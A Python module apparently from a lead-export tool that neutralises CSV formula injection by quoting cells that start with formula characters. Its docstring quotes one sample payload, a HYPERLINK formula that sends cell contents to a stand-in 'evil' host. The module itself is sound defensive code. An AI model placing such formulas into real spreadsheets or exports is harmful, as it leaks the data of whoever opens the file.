"""CSV cells a spreadsheet cannot run (OWASP "CSV injection"): scraped text that looks like a formula stays text.

A title or seller name such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(…)` would run when an analyst opens the
export in Excel or LibreOffice. Every text cell that starts with `=`, `+`, `-`, `@`, a tab, a carriage return or a
line feed, also after leading spaces, gets a single quote in front, which spreadsheets show as text. Numbers are
left alone; quoting of commas and quotes is the csv module's job. Used by `leads export --format csv` and the
referral package's `summary.csv`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """`value` with a leading single quote when a spreadsheet would read it as a formula; non-text unchanged."""
    if not isinstance(value, str):
        return value
    if value.startswith(_FORMULA_START) or value.lstrip(" ").startswith(_FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose every row goes through `safe_row`: the one way NetSword writes CSV for people to open."""

    def __init__(self, out: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(values))
